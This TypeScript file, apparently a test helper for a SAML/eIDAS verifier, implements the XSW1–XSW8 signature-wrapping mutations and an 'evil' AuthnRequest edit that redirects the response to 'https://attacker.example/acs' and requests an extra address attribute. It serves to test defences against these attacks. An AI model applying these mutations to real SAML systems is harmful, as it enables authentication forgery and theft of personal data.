/**
 * XML Signature Wrapping mutations XSW1..XSW8, built step by step as SAML Raider's
 * `XSWHelpers.applyXSW1..8` does (CompassSecurity/SAMLRaider, src/main/java/helpers/XSWHelpers.java):
 * clone, strip the clone's signature, re-parent, change IDs. The "match and replace" step is `evil`,
 * applied to the copy the attacker wants consumed. Look-ups are child-relative here (the fixtures
 * have one Response root and one Assertion child), which selects the same nodes as SAML Raider's
 * first-in-document-order look-ups.
 */
import { NS } from '../../../../../src/saml/namespaces.ts';
import { assertionOf, kid, signatureOf, stripSignature } from '../../../../helpers/saml-fixtures.ts';

export type Edit = (el: Element) => void;
export type Xsw = (doc: Document, evil: Edit) => void;

const EVIL_RESPONSE_ID = '_evil_response_ID';
const EVIL_ASSERTION_ID = '_evil_assertion_ID';

/** XSW1: the signed root is cloned into its own ds:Signature; the root gets a new ID and evil content. */
export const xsw1: Xsw = (doc, evil) => {
  const root = doc.documentElement!;
  const clone = root.cloneNode(true) as Element;
  evil(root);
  stripSignature(clone);
  signatureOf(root).appendChild(clone);
  root.setAttribute('ID', EVIL_RESPONSE_ID);
};

/** XSW2: like XSW1, the clean clone is inserted as a sibling just before the ds:Signature. */
export const xsw2: Xsw = (doc, evil) => {
  const root = doc.documentElement!;
  const clone = root.cloneNode(true) as Element;
  evil(root);
  stripSignature(clone);
  const signature = signatureOf(root);
  root.insertBefore(clone, signature);
  root.setAttribute('ID', EVIL_RESPONSE_ID);
};

/** XSW3: an unsigned evil copy of the Assertion (new ID) is inserted before the signed one. */
export const xsw3: Xsw = (doc, evil) => {
  const assertion = assertionOf(doc.documentElement!);
  const evilAssertion = assertion.cloneNode(true) as Element;
  evil(evilAssertion);
  evilAssertion.setAttribute('ID', EVIL_ASSERTION_ID);
  stripSignature(evilAssertion);
  doc.documentElement!.insertBefore(evilAssertion, assertion);
};

/** XSW4: an unsigned evil copy (new ID) is appended, and the signed Assertion moved inside it. */
export const xsw4: Xsw = (doc, evil) => {
  const assertion = assertionOf(doc.documentElement!);
  const evilAssertion = assertion.cloneNode(true) as Element;
  evil(evilAssertion);
  evilAssertion.setAttribute('ID', EVIL_ASSERTION_ID);
  stripSignature(evilAssertion);
  doc.documentElement!.appendChild(evilAssertion);
  evilAssertion.appendChild(assertion);
};

/** XSW5: the signature-bearing Assertion is edited and renamed; an unsigned clean copy is appended. */
export const xsw5: Xsw = (doc, evil) => {
  const evilAssertion = assertionOf(doc.documentElement!);
  const clean = evilAssertion.cloneNode(true) as Element;
  evil(evilAssertion);
  stripSignature(clean);
  doc.documentElement!.appendChild(clean);
  evilAssertion.setAttribute('ID', EVIL_ASSERTION_ID);
};

/** XSW6: like XSW5, but the clean copy goes inside the evil Assertion's own ds:Signature. */
export const xsw6: Xsw = (doc, evil) => {
  const evilAssertion = assertionOf(doc.documentElement!);
  const originalSignature = signatureOf(evilAssertion);
  const clean = evilAssertion.cloneNode(true) as Element;
  evil(evilAssertion);
  stripSignature(clean);
  originalSignature.appendChild(clean);
  evilAssertion.setAttribute('ID', EVIL_ASSERTION_ID);
};

/**
 * XSW7: an `Extensions` element (SAML Raider: no namespace; `namespaced`: samlp:Extensions) before
 * the signed Assertion holds an unsigned evil copy with the SAME ID.
 */
export function xsw7(namespaced = false): Xsw {
  return (doc, evil) => {
    const assertion = assertionOf(doc.documentElement!);
    const extensions = namespaced ? doc.createElementNS(NS.samlp, 'saml2p:Extensions') : doc.createElement('Extensions');
    doc.documentElement!.insertBefore(extensions, assertion);
    const evilAssertion = assertion.cloneNode(true) as Element;
    evil(evilAssertion);
    stripSignature(evilAssertion);
    extensions.appendChild(evilAssertion);
  };
}

/**
 * XSW8: the signature-bearing Assertion is edited (same ID); an `Object` (SAML Raider: no namespace;
 * `namespaced`: ds:Object) inside its Signature holds the unsigned clean copy with the same ID.
 */
export function xsw8(namespaced = false): Xsw {
  return (doc, evil) => {
    const evilAssertion = assertionOf(doc.documentElement!);
    const originalSignature = signatureOf(evilAssertion);
    const clean = evilAssertion.cloneNode(true) as Element;
    evil(evilAssertion);
    stripSignature(clean);
    const object = namespaced ? doc.createElementNS(NS.ds, 'ds:Object') : doc.createElement('Object');
    originalSignature.appendChild(object);
    object.appendChild(clean);
  };
}

/** Evil edit of an AuthnRequest (PS role): attacker ACS, private SPType, one more requested attribute. */
export const evilRequest: Edit = (req) => {
  req.setAttribute('AssertionConsumerServiceURL', 'https://attacker.example/acs');
  const extensions = kid(req, NS.samlp, 'Extensions');
  kid(extensions, NS.eidas, 'SPType').textContent = 'private';
  const requested = kid(extensions, NS.eidas, 'RequestedAttributes');
  const extra = requested.ownerDocument!.createElementNS(NS.eidas, 'eidas:RequestedAttribute');
  extra.setAttribute('Name', 'http://eidas.europa.eu/attributes/naturalperson/CurrentAddress');
  extra.setAttribute('NameFormat', 'urn:oasis:names:tc:SAML:2.0:attrname-format:uri');
  extra.setAttribute('isRequired', 'true');
  requested.appendChild(extra);
};

export { EVIL_ASSERTION_ID, EVIL_RESPONSE_ID };
